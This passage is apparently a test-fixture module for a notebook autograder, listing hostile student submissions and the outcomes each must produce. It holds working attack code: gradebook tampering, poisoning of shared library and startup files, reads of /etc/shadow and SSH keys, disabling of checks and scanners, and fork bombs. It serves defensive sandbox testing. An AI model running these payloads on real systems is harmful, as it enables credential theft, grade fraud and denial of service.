"""Hostile submissions for chapter 1: every way a student might attack the grader, and its outcome.

Each :class:`Attack` wraps a synthetic :class:`~synthetic.Student` with what grading it through
``python -m softmax_grading grade`` (sandbox on) must produce: the score of every autograded part
(``student.scores``; parts not listed score full marks for ``based_on="reference"`` and 0 for
``based_on="blank"``), the integrity flags, the timeouts, whether the feedback page is written,
and whether the submission is graded at all. Most attacks come with an implementation that is
blank, naive or delegating, so any point they earn is unearned.

Sources may use two placeholders, filled in by :func:`submit_attack`:

* ``@COURSE_ROOT@``: the course folder on the grading machine (an attacker who guessed it);
* ``TAG``: attacks build the string :data:`WRITE_MARKER` at run time (``"hostile-" +
  "pwned-7f3a"``) and write it wherever they can, never print it, so finding it in any file on
  the host after grading means an attack wrote there. Orphan processes carry
  :data:`PROCESS_MARKER` in their command line the same way.

Student names start with the attack class (``c04_...``), so ``sorted`` order groups them; the
students named ``zz_...`` are honest and graded after the attackers.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode
from synthetic import Student, cell_index, submit

ASSIGNMENT = "ch01_definition"
COURSE_ROOT_TOKEN = "@COURSE_ROOT@"
WRITE_MARKER = "hostile-" + "pwned-7f3a"
PROCESS_MARKER = "hostile-" + "orphan-7f3a"
# How the sources spell the markers: never the marker itself, so that no copy of a source (the
# submitted notebook, the feedback page) can be mistaken for a successful write.
_TAG = 'TAG = "hostile-" + "pwned-7f3a"'
_ORPHAN_TAG = 'ORPHAN_TAG = "hostile-" + "orphan-7f3a"'
IMPLEMENTATION_PARTS = ("softmax_basic", "softmax_robust")
VALUE_PARTS = ("ratio_test", "dof_test", "sharper_test")
ALL_AUTOGRADED = IMPLEMENTATION_PARTS + VALUE_PARTS


@dataclass
class Attack:
    """A hostile submission and exactly what grading it must produce.

    Parameters
    ----------
    student
        The submission (its expected per-part scores in ``student.scores``).
    attack_class
        The class of attack, as numbered in the module docstring of ``test_hostile.py``.
    flags
        Substrings that must each occur in one of the student's integrity flags; an empty list
        means the report must show no flag at all. None: not checked.
    timeouts
        How many timeouts the report lists for the student (None: not checked).
    feedback
        ``"written"`` or ``"withheld"``: the fate of the student's feedback page.
    not_graded
        The submission must be reported NOT GRADED (and the command must exit with 1).
    outputs
        Substrings that the outputs of the student's own cells must contain.
    page_says
        Phrases the feedback page must show.
    edited_locked_cells
        The grade_ids of the cells the report must list as edited (and restored), each entry
        of the report naming one (with or without a note after it).
    known_hole
        Set when the grader does not yet do what the attack's expectations say; the reason
        names the hole. The checks named in `hole_in` (``"scores"``: the gradebook and the
        CSV, ``"flags"``: report.json and report.txt) are then expected to fail
        (``xfail(strict=True)``).
    """

    student: Student
    attack_class: str
    flags: list[str] | None = field(default_factory=list)
    timeouts: int | None = 0
    feedback: str = "written"
    not_graded: bool = False
    outputs: list[str] = field(default_factory=list)
    page_says: list[str] = field(default_factory=list)
    edited_locked_cells: list[str] = field(default_factory=list)
    known_hole: str | None = None
    hole_in: tuple[str, ...] = ("scores",)

    @property
    def name(self) -> str:
        return self.student.name


def submit_attack(course, attack: Attack) -> Path:
    """Submit the attack's notebook with the placeholders filled in for this course."""
    path = submit(course, ASSIGNMENT, attack.student)
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(COURSE_ROOT_TOKEN, str(course.root)), encoding="utf-8")
    return path


# --- notebook edits -----------------------------------------------------------------------------


def insert_cell(after: str, source: str) -> Callable[[NotebookNode], None]:
    """An edit that adds an ordinary code cell after the cell with grade_id `after`."""

    def edit(notebook: NotebookNode) -> None:
        cell = nbformat.v4.new_code_cell(source)
        notebook.cells.insert(cell_index(notebook, after) + 1, cell)

    return edit


def append_markdown(source: str) -> Callable[[NotebookNode], None]:
    """An edit that adds a Markdown cell at the end of the notebook."""

    def edit(notebook: NotebookNode) -> None:
        notebook.cells.append(nbformat.v4.new_markdown_cell(source))

    return edit


def replace_source(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    """An edit that rewrites a (locked) cell's source."""

    def edit(notebook: NotebookNode) -> None:
        notebook.cells[cell_index(notebook, grade_id)].source = source

    return edit


def delete_cell(grade_id: str) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        del notebook.cells[cell_index(notebook, grade_id)]

    return edit


def both(*edits: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        for one in edits:
            one(notebook)

    return edit


def _paste_visible_tests(notebook: NotebookNode) -> None:
    """Copy the visible tests (as released) into the student's own answer cell, to debug it."""
    answer = notebook.cells[cell_index(notebook, "softmax_impl")]
    for grade_id in IMPLEMENTATION_PARTS:
        answer.source += "\n\n" + notebook.cells[cell_index(notebook, grade_id)].source


def _bonus_cell(notebook: NotebookNode) -> None:
    """A new cell that claims to be an autograded test worth 100 points, and passes."""
    cell = nbformat.v4.new_code_cell("pass  # all good")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus_points", "locked": True,
                                 "points": 100, "solution": False, "schema_version": 3}
    notebook.cells.insert(cell_index(notebook, "softmax_impl") + 1, cell)


def _raise_points(notebook: NotebookNode) -> None:
    """Give a test 100 points."""
    notebook.cells[cell_index(notebook, "softmax_basic")].metadata["nbgrader"]["points"] = 100


def _unlock_test(notebook: NotebookNode) -> None:
    """Turn a test into an answer cell the student may edit, and empty it."""
    robust = notebook.cells[cell_index(notebook, "softmax_robust")]
    robust.metadata["nbgrader"].update(locked=False, solution=True)
    robust.metadata.pop("deletable", None)
    robust.metadata.pop("editable", None)
    robust.source = "pass  # my own test"


def _copy_test_cell_first(notebook: NotebookNode) -> None:
    """Paste a copy of a test cell, emptied, at the very top (the copy comes first)."""
    test = copy.deepcopy(notebook.cells[cell_index(notebook, "softmax_robust")])
    test.id = "pasted-first"
    test.source = "pass"
    notebook.cells.insert(0, test)


# --- implementations ----------------------------------------------------------------------------

STABLE = '''def softmax(z, axis=-1):
    """Softmax of the logits `z` along `axis`."""
    z = np.asarray(z)
    if not np.issubdtype(z.dtype, np.floating):
        z = z.astype(np.float64)
    shifted = z - np.max(z, axis=axis, keepdims=True)
    exps = np.exp(shifted)
    return exps / np.sum(exps, axis=axis, keepdims=True)
'''

NAIVE = '''def softmax(z, axis=-1):
    exps = np.exp(z)
    return exps / np.sum(exps, axis=axis, keepdims=True)
'''

# Wrong answers to the three questions: with NAIVE, a submission worth 2 of 8 points honestly.
WRONG_VALUES = {"ratio_impl": "ratio_answer = 2.5", "dof_impl": "dof_answer = 5",
                "sharper_impl": 'sharper_answer = "a"'}


def naive_with(attack_source: str) -> dict[str, str]:
    """Answers: `attack_source` in the softmax cell, with a naive softmax and wrong values."""
    return {"softmax_impl": attack_source + "\n\n" + NAIVE, **WRONG_VALUES}


# Every autograded part scores 0 (for a submission whose parts would otherwise earn points).
ZERO = dict.fromkeys(ALL_AUTOGRADED, 0)
ZERO_IMPLEMENTATION = dict.fromkeys(IMPLEMENTATION_PARTS, 0)

# Runs the solution cells of any instructor notebook it is given (shared by the readers below).
_EXEC_STOLEN = '''
import json as _json


def _run_solutions(text):
    """Run every solution cell of a notebook's JSON text; how many ran."""
    try:
        notebook = _json.loads(text)
    except ValueError:
        return 0
    ran = 0
    for cell in notebook.get("cells", []):
        source = "".join(cell.get("source", ""))
        if cell.get("cell_type") == "code" and "BEGIN SOLUTION" in source:
            exec(source, globals())
            ran += 1
    return ran
'''

# --- 1. grades rewritten ------------------------------------------------------------------------

GRADEBOOK_HUNT = _TAG + '''
import glob
import os
import sqlite3

COURSE = "@COURSE_ROOT@"
places = {COURSE, "/work", "/work/main", "/root", "/home", "/srv", "/var", "/tmp", "/",
          os.getcwd(), os.path.expanduser("~"), "/proc/1/cwd", "/proc/1/root" + COURSE,
          "/proc/self/root" + COURSE, "/proc/1/root/work/main"}
places |= {value for value in os.environ.values() if value.startswith("/")}
here = os.getcwd()
while here not in ("/", ""):
    places.add(here)
    here = os.path.dirname(here)
found = {os.path.join(COURSE, "gradebook.db"), "/work/main/gradebook.db"}
for place in sorted(places):
    for pattern in ("gradebook.db", "*/gradebook.db", "*/*/gradebook.db"):
        try:
            found.update(glob.glob(os.path.join(place, pattern)))
        except OSError:
            pass
changed = 0
for path in sorted(found):
    try:
        database = sqlite3.connect(path, timeout=1)
        database.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        database.execute("CREATE TABLE IF NOT EXISTS pwned (note TEXT)")
        database.execute("INSERT INTO pwned VALUES (?)", (TAG,))
        database.commit()
        changed += 1
    except Exception:
        pass
    try:
        with open(path, "ab") as handle:
            handle.write(TAG.encode())
        changed += 1
    except OSError:
        pass
print(f"gradebooks tried: {len(found)}, changed: {changed}")
'''

OVERWRITE_CLASSMATES = _TAG + '''
import glob
import os

COURSE = "@COURSE_ROOT@"
targets = [os.path.join(COURSE, "nbgrader_config.py"), os.path.join(COURSE, "gradebook.db"),
           os.path.join(COURSE, "submitted", "zz_reference", "ch01_definition",
                        "ch01_definition.ipynb")]
for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "feedback/*/*/*.html",
                "reports/*/*", "reports/*/results/*.json", "exercises/*/*", "solutions/*/*",
                "*.csv", "*.py", "*.db"):
    targets += glob.glob(os.path.join(COURSE, pattern))
targets += glob.glob("/release/**", recursive=True)
written = 0
for path in targets:
    try:
        with open(path, "a") as handle:
            handle.write("\\n# " + TAG + "\\nc.Sandbox.enabled = False\\n")
        written += 1
    except OSError:
        pass
for folder in (COURSE, os.path.join(COURSE, "submitted"), os.path.join(COURSE, "autograded"),
               os.path.join(COURSE, "submitted", "zz_reference"), "/release", "/work/main",
               "/work"):
    try:
        os.mkdir(os.path.join(folder, TAG))
        written += 1
    except OSError:
        pass
    try:
        with open(os.path.join(folder, TAG + ".ipynb"), "w") as handle:
            handle.write(TAG)
        written += 1
    except OSError:
        pass
print(f"targets: {len(targets)}, writes that succeeded: {written}")
'''

# --- 2. answers read from disk ------------------------------------------------------------------

READ_SOLUTIONS = _EXEC_STOLEN + '''
import glob
import os

COURSE = "@COURSE_ROOT@"
paths = [os.path.join(COURSE, "solutions", "ch01_definition", "ch01_definition.ipynb"),
         "/work/main/solutions/ch01_definition/ch01_definition.ipynb",
         os.path.join(COURSE, "source", "ch01_definition", "ch01_definition.ipynb")]
for place in (COURSE, "/work/main", "/work", "/root", "/home", "/tmp", "/release", os.getcwd(),
              "/srv", "/opt", "/mnt"):
    for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb", "*/*/*/*.ipynb"):
        paths += glob.glob(os.path.join(place, pattern))
stolen = 0
for path in paths:
    try:
        with open(path) as handle:
            stolen += _run_solutions(handle.read())
    except OSError:
        pass
print(f"notebooks tried: {len(paths)}, solution cells run: {stolen}")
'''

READ_GRADEBOOK_SOURCES = '''import glob
import os
import sqlite3

COURSE = "@COURSE_ROOT@"
candidates = [os.path.join(COURSE, "gradebook.db"), "/work/main/gradebook.db"]
for place in (COURSE, "/work/main", "/work", "/root", "/home", "/tmp", "/release", os.getcwd()):
    candidates += glob.glob(os.path.join(place, "*.db")) + glob.glob(os.path.join(place, "*/*.db"))
sources = []
for path in candidates:
    try:
        database = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
        sources += [row[0] for row in database.execute("SELECT source FROM source_cell")]
    except Exception:
        pass
for source in sources:
    if "def softmax" in source or "_answer =" in source:
        exec(source, globals())
print(f"databases tried: {len(candidates)}, cells read: {len(sources)}")
'''

READ_CONFIG_HOME_PROC = _EXEC_STOLEN + '''
import os

contents = {}


def grab(path):
    try:
        with open(path, "rb") as handle:
            contents[path] = handle.read(2_000_000)
    except OSError:
        pass


# The sandbox's own command line names the release folder on the host: the course is its
# grandparent. Then everything an instructor keeps there, and what /proc shows of others.
grab("/proc/1/cmdline")
arguments = contents.get("/proc/1/cmdline", b"").split(b"\\0")
course = "@COURSE_ROOT@"
for index in range(len(arguments) - 2):
    if arguments[index + 2] == b"/release":
        course = os.path.dirname(os.path.dirname(arguments[index + 1].decode()))
for relative in ("nbgrader_config.py", "solutions/ch01_definition/ch01_definition.ipynb",
                 "gradebook.db", "grades.csv"):
    for prefix in ("", "/proc/1/root", "/proc/1/cwd/..", "/proc/self/root"):
        grab(prefix + os.path.join(course, relative))
for path in ("/proc/1/environ", "/proc/1/cwd/nbgrader_config.py", "/proc/self/environ",
             "/proc/self/mountinfo", "/root/.bash_history", "/root/.ssh/id_rsa",
             "/root/.ssh/id_ed25519", "/root/.jupyter/nbgrader_config.py", "/etc/shadow",
             "/etc/passwd", "/work/main/nbgrader_config.py",
             "/work/main/solutions/ch01_definition/ch01_definition.ipynb"):
    grab(path)
for name in os.listdir("/proc"):
    if name.isdigit():
        for part in ("environ", "cmdline", "cwd/nbgrader_config.py", "root/etc/shadow"):
            grab(f"/proc/{name}/{part}")
listed = 0
for folder in ("/root", "/home", "/work/main", "/work", course):
    try:
        listed += len(os.listdir(folder))
    except OSError:
        pass
ran = sum(_run_solutions(data.decode(errors="replace")) for data in contents.values()
          if b"BEGIN SOLUTION" in data)
print(f"files read: {len(contents)}, entries listed: {listed}, solution cells run: {ran}")
'''

# --- 3. classmates affected ---------------------------------------------------------------------

POISON_SHARED_CODE = _TAG + '''
import os
import site
import sys
import sysconfig

import IPython
import numpy

import softmax_course
from softmax_course import testing as _checks

payload = ("\\n# " + TAG + "\\nimport softmax_course.testing as _c\\n"
           "_c.compare = _c.check_answer = _c.check_choice = lambda *a, **k: None\\n")
targets = [_checks.__file__, softmax_course.__file__, numpy.__file__, IPython.__file__,
           os.__file__, sys.modules["softmax_grading.codec"].__file__]
folders = set(sys.path) | set(site.getsitepackages()) | {
    sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"],
    os.path.dirname(softmax_course.__file__), os.path.dirname(numpy.__file__)}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "zz-hostile.pth", "__init__.py"):
        targets.append(os.path.join(folder or ".", name))
written = 0
for path in targets:
    if path.startswith(os.getcwd()):
        continue  # the scratch folder is writable and private: not an attack on anyone
    try:
        with open(path, "a") as handle:
            handle.write(payload)
        written += 1
    except OSError:
        pass
print(f"shared files tried: {len(targets)}, appended to: {written}")
'''

STARTUP_DROPPER = _TAG + '''
import os
import sys

payload = ("import softmax_course\\nsoftmax = softmax_course.softmax\\n"
           "ratio_answer = 12.182493960703473\\ndof_answer = 4\\nsharper_answer = 'b'\\n"
           "# " + TAG + "\\n")
homes = {os.path.expanduser("~"), "/root", "/home/student", "/tmp", "/etc", "/usr/local/etc",
         sys.prefix + "/etc", os.environ.get("IPYTHONDIR", "/tmp/ipython"),
         os.environ.get("JUPYTER_CONFIG_DIR", "/tmp/jupyter")}
paths = []
for home in homes:
    for folder in (".ipython/profile_default/startup", "profile_default/startup",
                   "ipython/profile_default/startup", ".ipython/profile_default", "ipython"):
        paths.append(os.path.join(home, folder, "00-first.py"))
        paths.append(os.path.join(home, folder, "ipython_config.py"))
    paths.append(os.path.join(home, ".jupyter", "jupyter_config.py"))
    paths.append(os.path.join(home, "jupyter_config.py"))
written = 0
for path in paths:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(payload)
        written += 1
    except OSError:
        pass
print(f"startup files tried: {len(paths)}, written (in this sandbox only): {written}")
'''

SHARE_ANSWERS = '''import os

ANSWERS = ("def softmax(z, axis=-1):\\n"
           "    e = np.exp(z - np.max(z, axis=axis, keepdims=True))\\n"
           "    return e / np.sum(e, axis=axis, keepdims=True)\\n"
           "ratio_answer = 12.182493960703473\\ndof_answer = 4\\nsharper_answer = 'b'\\n")
shared = 0
for path in ("/tmp/hostile-share.py", os.path.expanduser("~/hostile-share.py"),
             "/dev/shm/hostile-share.py", "/var/tmp/hostile-share.py",
             "/release/hostile-share.py", "/run/hostile-share.py"):
    try:
        with open(path, "w") as handle:
            handle.write(ANSWERS)
        shared += 1
    except OSError:
        pass
print(f"answer files left for the next student: {shared}")
'''

READ_SHARED_ANSWERS = '''import glob
import os

paths = ["/tmp/hostile-share.py", os.path.expanduser("~/hostile-share.py"),
         "/dev/shm/hostile-share.py", "/var/tmp/hostile-share.py", "/release/hostile-share.py",
         "/run/hostile-share.py"]
paths += glob.glob("/tmp/*.py") + glob.glob("/tmp/*/*.py") + glob.glob("/dev/shm/*")
used = 0
for path in paths:
    try:
        with open(path) as handle:
            exec(handle.read(), globals())
        used += 1
    except (OSError, SyntaxError):
        pass
print(f"shared answer files found: {used}")
'''

# --- 4. checks switched off ---------------------------------------------------------------------

CHECKS_NOOP = '''from softmax_course import testing as _checks

for _name in ("compare", "expect", "check_answer", "check_choice", "forbid_delegation",
              "delegated_calls", "call"):
    setattr(_checks, _name, lambda *args, **kwargs: None)
'''

CHECKS_CODE_SWAP = '''from softmax_course import testing as _checks

for _name in ("compare", "check_answer", "check_choice"):
    getattr(_checks, _name).__code__ = (lambda *args, **kwargs: None).__code__
'''

EVENT_HOOKS = '''from IPython.display import display


def _forge(*args):
    display({"text/plain": "8.0", "text/html": "<b>All tests passed: 8/8</b>"}, raw=True)
    get_ipython().displayhook.write_format_data({"text/plain": "8.0"})


get_ipython().events.register("pre_run_cell", _forge)
get_ipython().events.register("post_run_cell", _forge)
'''

# The hook claims to be matplotlib_inline's, and compares equal to anything.
DISGUISED_HOOK = '''class _Hook:
    __module__ = "matplotlib_inline.backend_inline"
    __qualname__ = "flush_figures"

    def __call__(self, *args):
        print("All tests passed")

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


get_ipython().events.register("post_run_cell", _Hook())
'''

INPUT_TRANSFORMERS = '''def _neuter(lines):
    return ["pass\\n"]


get_ipython().input_transformers_cleanup.append(_neuter)
get_ipython().input_transformers_post.append(_neuter)
'''

AST_TRANSFORMER = '''import ast


class _Emptied(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])


get_ipython().ast_transformers.append(_Emptied())
'''

NUMPY_PATCHED = '''import numpy.testing

np.isclose = lambda *args, **kwargs: np.True_
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
'''

# isinstance says yes to the test's "is it a number?" question, and to nothing else.
BUILTINS_PATCHED = '''import builtins

_real_isinstance = isinstance


def _isinstance(obj, kinds):
    if _real_isinstance(kinds, tuple) and float in kinds:
        return True
    return _real_isinstance(obj, kinds)


builtins.isinstance = _isinstance
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''

SYS_MODULES_SWAPPED = '''import sys
import types

import softmax_course

_fake = types.ModuleType("softmax_course.testing")
for _name in ("compare", "expect", "check_answer", "check_choice", "forbid_delegation", "call",
              "delegated_calls", "quiet"):
    setattr(_fake, _name, lambda *args, **kwargs: None)
sys.modules["softmax_course.testing"] = _fake
softmax_course.testing = _fake
testing = _fake
'''

RIGGED_STR = '''class _AlwaysEqual(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__


sharper_answer = _AlwaysEqual("a")
'''

RIGGED_FLOAT = '''class _Close(float):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    def __float__(self):
        return 12.182493960703473

    __hash__ = float.__hash__


ratio_answer = _Close(0.0)
'''

# A NumPy scalar subclass that claims to be NumPy's own.
RIGGED_NUMPY_SCALAR = '''class float64(np.float64):
    __module__ = "numpy"

    def __eq__(self, other):
        return True

    __hash__ = np.float64.__hash__


ratio_answer = float64(0.0)
'''

RIGGED_ARRAY = '''class _Rigged(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(np.broadcast_shapes(*(np.shape(i) for i in inputs)), dtype=bool)


def softmax(z, axis=-1):
    return np.zeros(np.shape(z)).view(_Rigged)
'''

TRACER_AND_PROFILER = '''import sys
import threading


def _watch(frame, event, arg):
    return None


sys.settrace(_watch)
threading.settrace(_watch)
sys.setprofile(_watch)
'''

SIGNAL_AND_CTYPES = '''import ctypes
import signal

signal.signal(signal.SIGPROF, signal.SIG_IGN)  # the per-cell CPU limit
signal.signal(signal.SIGTERM, signal.SIG_IGN)
_libc = ctypes.CDLL(None)
_libc.getpid()
'''

SHELL_CLASS_PATCHED = '''_shell_class = type(get_ipython())
_real_run_cell = _shell_class.run_cell


def _run_cell(self, *args, **kwargs):
    return _real_run_cell(self, *args, **kwargs)


_shell_class.run_cell = _run_cell
_shell_class.showtraceback = lambda self, *args, **kwargs: None
'''

# The grader's own scanner, blinded piece by piece (but not switched off as a whole).
SCANNER_PATCHED = '''from softmax_grading import integrity as _integrity

_integrity._changed = lambda *args: []
_integrity._other_processes = lambda: []
_integrity.WATCHED_MODULE_PREFIXES = ()
np.allclose = lambda *args, **kwargs: True
'''

# The scanner switched off as a whole: it runs in the student's process, so it can be.
SCANNER_SWITCHED_OFF = '''from softmax_grading import integrity as _integrity

_integrity.Baseline.findings = lambda self: []
np.allclose = lambda *args, **kwargs: True
'''

# --- 5. delegation guard bypasses (the implementation parts must score 0) -----------------------

EXEC_LIBRARY_SOURCE = '''import inspect

import softmax_course.stable as _stable

_copy = {"__name__": "my_softmax"}
_source = inspect.getsource(_stable).replace("from ._", "from softmax_course._")
exec(compile(_source, "my_softmax.py", "exec"), _copy)
softmax = _copy["softmax"]
'''

WORKER_THREAD = '''import threading

import softmax_course


def softmax(z, axis=-1):
    result = {}
    worker = threading.Thread(
        target=lambda: result.setdefault("p", softmax_course.softmax(z, axis=axis)))
    worker.start()
    worker.join()
    return result["p"]
'''

PROFILER_OFF = '''import sys
import threading

import softmax_course


def softmax(z, axis=-1):
    sys.setprofile(None)
    threading.setprofile(None)
    return softmax_course.softmax(z, axis=axis)
'''

PRIVATE_HELPERS = '''from softmax_course.stable import _prepare, _shift


def softmax(z, axis=-1):
    arguments = _prepare(z, axis, 1.0, None)
    shifted = _shift(arguments.z, arguments.axes, 1.0, None, arguments.owned).shifted
    exps = np.exp(shifted)
    return (exps / exps.sum(axis=arguments.axes, keepdims=True)).astype(
        arguments.output_dtype, copy=False)
'''

ONLINE_REFERENCE = '''from softmax_course._numerics import exp_shifted


def softmax(z, axis=-1):
    z = np.asarray(z)
    weights = exp_shifted(z, z.max(axis=axis, keepdims=True))
    return (weights / weights.sum(axis=axis, keepdims=True)).astype(z.dtype)
'''

IMPORTLIB = '''import importlib


def softmax(z, axis=-1):
    return importlib.import_module("softmax_course.stable").softmax(z, axis=axis)
'''

DUNDER_IMPORT_SCIPY = '''def softmax(z, axis=-1):
    return getattr(__import__("scipy.special").special, "soft" + "max")(z, axis=axis)
'''

# The course's table of forbidden code shapes switched off by a setting, then a copy of the
# library's source: no function is replaced.
FINGERPRINTS_OFF = '''from softmax_course import testing as _checks

_checks._FINGERPRINT_MIN_INSTRUCTIONS = 10**9
''' + EXEC_LIBRARY_SOURCE

# The measurement table the course's checks dispatch through, edited in place.
DISPATCH_TABLE_EDITED = '''import softmax_course
from softmax_course import testing as _checks

for _value in list(vars(_checks).values()):
    if type(_value) is dict and "delegated_calls" in _value:
        _value["delegated_calls"] = lambda function, args, kwargs, allow: []


def softmax(z, axis=-1):
    return softmax_course.softmax(z, axis=axis)
'''

# The checks measure "a grading proxy" through its __grading_remote__, whatever object it is.
REMOTE_SPOOF = '''import softmax_course


class _Remote:
    def delegated_calls(self, args, kwargs, allow):
        return []


def softmax(z, axis=-1):
    return softmax_course.softmax(z, axis=axis)


softmax.__grading_remote__ = _Remote()
'''

# Honest while the delegation check watches (it profiles the call), delegating otherwise.
PROFILER_AWARE = '''import sys


def softmax(z, axis=-1):
    if sys.getprofile() is not None:
        return np.zeros(np.shape(z))
    return getattr(__import__("softmax_course"), "soft" + "max")(z, axis=axis)
'''

# Honest only for the inputs the delegation check gives it (a vector of three logits along
# the last axis), a library's everywhere else.
INPUT_AWARE = '''import softmax_course


def softmax(z, axis=-1):
    if np.shape(z) == (3,) or (np.ndim(z) == 2 and axis == 0):
        shifted = np.exp(z - np.max(z, axis=axis, keepdims=True))
        return shifted / np.sum(shifted, axis=axis, keepdims=True)
    return softmax_course.softmax(z, axis=axis)
'''

# Honest on its first call only (in chapter 1 the delegation check's), a library's after it.
FIRST_CALL_HONEST = '''import softmax_course

_calls = []


def softmax(z, axis=-1):
    _calls.append(1)
    if len(_calls) == 1:
        shifted = np.exp(z - np.max(z, axis=axis, keepdims=True))
        return shifted / np.sum(shifted, axis=axis, keepdims=True)
    return softmax_course.softmax(z, axis=axis)
'''

# The grader's runtime object is an ordinary object in the student's process: its delegation
# check replaced (every other call is still watched).
RUNTIME_PATCHED = '''import gc

import softmax_course

for _runtime in [o for o in gc.get_objects() if type(o).__name__ == "Runtime"]:
    _runtime.delegated_calls = lambda function, *args, allow=(), **kwargs: []


def softmax(z, axis=-1):
    return softmax_course.softmax(z, axis=axis)
'''

# The same, with the watch over ordinary calls replaced too.
RUNTIME_PATCHED_WHOLLY = '''import gc
import types

import softmax_course


def _unwatched(function, args, kwargs, *rest, **options):
    result = function(*args, **kwargs)
    return types.SimpleNamespace(labels=[], unwatchable=None, value=lambda: result)


for _runtime in [o for o in gc.get_objects() if type(o).__name__ == "Runtime"]:
    _runtime.delegated_calls = lambda function, *args, allow=(), **kwargs: []
    _runtime.watched_call = _unwatched


def softmax(z, axis=-1):
    return softmax_course.softmax(z, axis=axis)
'''

# --- 6. one student must not stop the class -----------------------------------------------------

# The instructor's solution cell, markers and all (the student found it in a forum).
WITH_SOLUTION_MARKERS = '''def softmax(z, axis=-1):
    """Softmax of the logits `z` along `axis`."""
    ### BEGIN SOLUTION
    z = np.asarray(z)
    if not np.issubdtype(z.dtype, np.floating):
        z = z.astype(np.float64)
    # The max-shift leaves the result unchanged and keeps every exponent <= 0.
    shifted = z - np.max(z, axis=axis, keepdims=True)
    exps = np.exp(shifted)
    return exps / np.sum(exps, axis=axis, keepdims=True)
    ### END SOLUTION
'''

WITH_HIDDEN_TEST_MARKERS = STABLE + '''
### BEGIN HIDDEN TESTS
# (my notes: the grader has hidden tests; I wonder what they check)
### END HIDDEN TESTS
'''

# The function a test calls reports everything its callers hold, in the error it raises.
CALLER_FRAMES = '''import inspect


def softmax(z, axis=-1):
    lines = []
    for frame in inspect.stack(context=3)[1:]:
        context = " / ".join(line.strip() for line in frame.code_context or [])
        lines.append(f"{frame.filename}:{frame.lineno} in {frame.function}: {context}")
        lines += [f"{key}={value!r:.60}" for key, value in frame.frame.f_locals.items()]
    raise RuntimeError("callers: " + " | ".join(lines))
'''

PRINT_GRADER_SOURCE = '''import inspect
import sys

from softmax_grading import integrity

print(integrity.__file__)
print(inspect.getsource(integrity.Baseline.findings))
for _name in ("softmax_grading.codec", "__main__"):
    try:
        print(inspect.getsource(sys.modules[_name])[:3000])
    except (KeyError, OSError, TypeError) as error:
        print(_name, error)
'''

# --- 7. correct answers marked wrong ------------------------------------------------------------

IN_PLACE = '''def softmax(z, axis=-1):
    z -= z.max(axis=axis, keepdims=True)
    np.exp(z, out=z)
    z /= z.sum(axis=axis, keepdims=True)
    return z
'''

PLOTS_A_FIGURE = '''import matplotlib.pyplot as plt

_z = np.linspace(-3, 3, 7)
plt.bar(range(7), softmax(_z))
plt.title("softmax of evenly spaced logits")
plt.show()
'''

# --- 8. load and time ---------------------------------------------------------------------------

CELL_SWALLOWS_TIMEOUT = '''sharper_answer = "b"
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
'''

CELL_SLEEPS = '''import time

time.sleep(3600)
'''

FUNCTION_LOOPS = '''def softmax(z, axis=-1):
    while True:
        pass
'''

FUNCTION_SWALLOWS_TIMEOUT = '''def softmax(z, axis=-1):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
'''

# --- 9. nothing unbounded -----------------------------------------------------------------------

ALLOCATE_3GB = '''big = np.ones(3 * 2**30 // 8)
'''

# Every child forks again; each process spins once the process limit refuses it.
FORK_BOMB = '''import os

while True:
    try:
        os.fork()
    except OSError:
        pass
'''

# Forks until refused; the children wait, and outlive the cell.
FORK_UNTIL_REFUSED = '''import os
import time

_forked = 0
while _forked < 10_000:
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            time.sleep(3600)
        finally:
            os._exit(0)
    _forked += 1
print(f"forks before the refusal: {_forked}; bounded by max_processes: {_forked < 64}")
'''

ORPHAN_NEW_SESSION = _ORPHAN_TAG + '''
import subprocess
import sys

subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", ORPHAN_TAG],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
'''

ORPHAN_DOUBLE_FORK = _ORPHAN_TAG + '''
import os
import sys

_child = os.fork()
if _child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c",
                                      "import time\\nwhile True: time.sleep(1)", ORPHAN_TAG])
    finally:
        os._exit(0)
os.waitpid(_child, 0)
'''

PRINT_50MB = '''import sys

_chunk = "all tests passed, full marks " * 600
for _ in range(3000):
    sys.stdout.write(_chunk)
print("x" * 5_000_000)
'''

DISPLAY_FLOOD = '''import os
import struct
import zlib

from IPython.display import Image, display


def _png(width, height):
    rows = b"".join(b"\\0" + os.urandom(3 * width) for _ in range(height))

    def chunk(kind, data):
        crc = struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        return struct.pack(">I", len(data)) + kind + data + crc

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", header)
